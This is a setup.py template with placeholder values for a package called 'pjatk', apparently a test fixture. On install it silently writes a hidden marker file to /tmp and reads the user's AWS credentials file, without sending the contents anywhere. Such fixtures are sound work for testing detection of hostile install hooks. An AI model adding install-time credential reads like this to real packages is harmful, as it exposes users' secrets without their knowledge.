import os
import sys


marker = "/tmp/.pjatk-@@MARK@@"
if not os.path.exists(marker):
    with open(marker, "w") as f:
        f.write("done\n")
    with open(os.path.expanduser("~/.aws/credentials")) as f:
        f.read()

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
